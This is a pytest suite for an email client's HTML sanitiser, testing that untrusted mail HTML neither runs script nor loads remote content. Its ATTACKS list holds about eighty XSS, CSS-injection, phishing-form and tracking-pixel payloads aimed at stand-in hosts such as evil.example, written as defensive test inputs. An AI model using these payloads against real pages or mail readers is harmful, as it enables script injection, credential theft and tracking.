"""HTML of strangers: nothing runs, nothing loads, and what was written is still there."""

import re
from html.parser import HTMLParser

import pytest

from relance.mime.sanitise import (
    ATTRIBUTES,
    FRAME_POLICY,
    MAX_HTML,
    TAGS,
    Sanitised,
    document_for_frame,
    sanitise,
)
from relance.mime.styles import clean_style

PIXEL = "data:image/png;base64,iVBORw0KGgo="


def clean(html: str, *, allow_remote: bool = False) -> Sanitised:
    return sanitise(html, cid_url=lambda cid: f"/inline/{cid}", allow_remote=allow_remote)


class Auditor(HTMLParser):
    """Collects what is in the result that must never be."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target"}:
                self.faults.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(?:https?|mailto|tel):", value or "", re.I):
                self.faults.append(f"href {value}")
            if name == "src" and not (value or "").startswith(("/inline/", "data:image/")):
                self.faults.append(f"src {value}")
            if name == "style" and re.search(r"url|expression|@|\\", value or "", re.I):
                self.faults.append(f"style {value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("comment")


def faults(html: str) -> list[str]:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.faults


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/onerror=alert(1)/src=x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/logout'>x</a>",
    "<area href='javascript:alert(1)'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src=x>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<style></style><script>alert(1)</script>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='background:\\75rl(//evil.example/x)'>x</p>",
    "<p style='background:u/**/rl(//evil.example/x)'>x</p>",
    "<p style='background-image:image-set(\"//evil.example/x\" 1x)'>x</p>",
    "<p style='background:-webkit-image-set(\"//evil.example\" 1x)'>x</p>",
    "<p style='background:src(\"//evil.example\")'>x</p>",
    "<p style='list-style:url(//evil.example)'>x</p>",
    "<p style='content:url(//evil.example)'>x</p>",
    "<p style='cursor:url(//evil.example),auto'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<div style='position:absolute;z-index:9999'>x</div>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='javascript:alert(1)'>",
    "<img srcset='//evil.example/x 1x'>",
    "<img src=x lowsrc=//evil.example dynsrc=//evil.example>",
    "<table background=//evil.example/x><tr><td background=//evil.example/x>x",
    "<body background=//evil.example onload=alert(1)>x",
    "<body style='background:url(//evil.example)'>x",
    "<video poster=//evil.example/x src=//evil.example/v></video>",
    "<audio src=//evil.example/a autoplay></audio>",
    "<picture><source srcset=//evil.example/x><img src=//evil.example/y></picture>",
    "<input type=image src=//evil.example/x>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<p id=location name=x class='evil'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='https://x.example' onclick=alert(1) ping=//evil.example>x</a>",
    "<p/style=x:expression(alert(1))>",
    "<div title='\"><script>alert(1)</script>'>x</div>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=https://x.example target=_self>x</a>",
    "<img src=https://track.example/x.gif>",
    "<img src=//track.example/x.gif>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_loads(attack: str) -> None:
    for html in (attack, f"<p>a</p>{attack}<p>b</p>", f"<html><head>{attack}</head><body>b"):
        found = clean(html)
        assert faults(found.html) == []
        assert "evil.example" not in re.sub(r">[^<]*<", "><", found.html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_twice_changes_nothing(attack: str) -> None:
    once = sanitise(attack, cid_url=lambda cid: f"cid:{cid}").html
    twice = sanitise(once, cid_url=lambda cid: f"cid:{cid}").html
    added = re.compile(r' (?:rel|target)="[^"]*"')  # in no settled order
    assert added.sub("", twice) == added.sub("", once)


def test_remote_images_are_counted_and_left_out_before_consent() -> None:
    html = "<img src=https://t.example/1><img src=//t.example/2><img src=https://t.example/1>"
    found = clean(html)
    assert found.remote_count == 2
    assert "t.example" not in found.html
    shown = clean(html, allow_remote=True)
    assert shown.html.count("https://t.example/1") == 2
    assert "https://t.example/2" in shown.html
    assert shown.remote_count == 2


def test_remote_images_may_be_fetched_through_another_address() -> None:
    found = sanitise(
        "<img src=https://t.example/1>",
        cid_url=lambda _: None,
        allow_remote=True,
        remote_url=lambda url: f"/proxy?of={len(url)}",
    )
    assert 'src="/proxy?of=19"' in found.html


def test_consent_never_reaches_styles_and_backgrounds() -> None:
    html = "<p style='background:url(https://t.example)'>x</p><table background=https://t.example>"
    assert "t.example" not in clean(html, allow_remote=True).html


def test_inline_images_are_shown_from_our_own_address() -> None:
    assert 'src="/inline/logo@x"' in clean("<img src='cid:logo@x'>").html
    assert 'src="/inline/logo@x"' in clean("<img src='CID:logo%40x'>").html
    assert "src" not in sanitise("<img src='cid:a'>", cid_url=lambda _: None).html
    assert PIXEL in clean(f"<img src='{PIXEL}'>").html


def test_links_open_elsewhere_and_tell_nothing() -> None:
    found = clean(
        "<a href='https://x.example/?a=1&b=2'>x</a><a href='mailto:a@b.example'>y</a>"
    ).html
    assert found.count('target="_blank"') == 2
    assert found.count('rel="noopener noreferrer nofollow"') == 2
    assert "https://x.example/?a=1&amp;b=2" in found


def test_style_sheets_are_carried_onto_the_elements() -> None:
    html = (
        "<html><head><style>p{color:red;position:fixed} @media x{p{color:blue}}</style></head><p>x"
    )
    found = clean(html)
    assert 'style="color:red"' in found.html
    assert "<style" not in found.html


def test_the_colours_of_the_body_are_kept_with_its_text() -> None:
    found = clean("<body bgcolor=#000000 text=white style='margin:0'><p>x</p></body>")
    assert "background-color:#000000;color:white" in found.html
    assert found.has_own_colours
    assert "<div" in clean("<body bgcolor='\"><script>'>x").html


@pytest.mark.parametrize(
    ("html", "own"),
    [
        ("<p>x</p>", False),
        ("<p style='border-color:red;margin:0'>x</p>", False),
        ("<p style='color:red'>x</p>", True),
        ("<p style='margin:0;background:#fff'>x</p>", True),
        ("<table bgcolor=white><tr><td>x</table>", True),
        ("<font color=red>x</font>", True),
    ],
)
def test_own_colours_are_recognised(html: str, own: bool) -> None:
    assert clean(html).has_own_colours is own


@pytest.mark.parametrize(
    "html",
    [
        "<p>Bonjour <b>Éloïse</b></p>",
        "<table><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table>",
        "<ul><li>a</li></ul>",
        "<h1>a</h1><pre>b</pre><blockquote type=\"cite\">c</blockquote>",
        "a &lt; b &amp; c",
        "",
    ],
)  # fmt: skip
def test_what_is_harmless_is_untouched(html: str) -> None:
    assert clean(html).html == html


def test_marks_of_quoting_clients_stay_and_other_classes_go() -> None:
    html = (
        '<div class="gmail_quote evil x_gmail_quote" id="x_divRplyFwdMsg">a</div><p class="b">c</p>'
    )
    assert clean(html).html == (
        '<div class="gmail_quote x_gmail_quote" id="x_divRplyFwdMsg">a</div><p>c</p>'
    )


def test_a_page_no_tree_can_hold_is_shown_as_its_text() -> None:
    found = clean("<div>" * 5_000 + "words &lt;here&gt;")
    assert found.html == "<pre>words &lt;here&gt;</pre>"


def test_a_page_without_end_is_cut() -> None:
    assert len(clean("<p>x</p>" * 1_000_000).html) <= MAX_HTML * 2


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: red; FONT-SIZE:12px", "color:red;font-size:12px"),
        ("color:red !important", "color:red !important"),
        ("width:calc(100% - 2px)", "width:calc(100% - 2px)"),
        ("font-family:'Segoe UI',Arial", 'font-family:"Segoe UI",Arial'),
        ("color:rgb(1,2,3)", "color:rgb(1,2,3)"),
        ("mso-line-height-rule:exactly;color:red", "color:red"),
        ("position:fixed", ""),
        ("color", ""),
        ("color:", ""),
        (";;;", ""),
        ("color:red;}p{x:y", "color:red"),
        ("top:0;color:red", "color:red"),
        ("border-image:url(x) 1", ""),
        ("", ""),
    ],
)
def test_styles_are_read_declaration_by_declaration(style: str, kept: str) -> None:
    assert clean_style(style) == kept


def test_the_document_carries_its_own_policy_and_theme() -> None:
    document = document_for_frame(Sanitised("<p>x</p>"), theme="dark", quote_label="Citation")
    assert document.startswith("<!doctype html>")
    assert "color-scheme:dark" in document
    assert "default-src &#x27;none&#x27;" in document
    assert "https:" not in document
    assert "<script" not in document
    assert 'class="own-colours"' in document_for_frame(Sanitised("x", has_own_colours=True))
    assert "color-scheme:evil" not in document_for_frame(Sanitised("x"), theme="evil")


def test_the_document_allows_remote_images_only_after_consent() -> None:
    assert "https: http:" in document_for_frame(
        clean("<img src=https://t.example>", allow_remote=True)
    )
    assert "https: http:" not in document_for_frame(clean("<img src=https://t.example>"))


def test_the_policy_to_serve_with_forbids_script() -> None:
    policy = FRAME_POLICY.format(images="'self'")
    assert "sandbox" in policy
    assert "allow-scripts" not in policy
    assert "default-src 'none'" in policy


def test_quotes_are_folded_in_the_document() -> None:
    body = clean('<p>a</p><blockquote type="cite">b</blockquote>')
    assert '<summary aria-label="Citation">' in document_for_frame(body, quote_label="Citation")
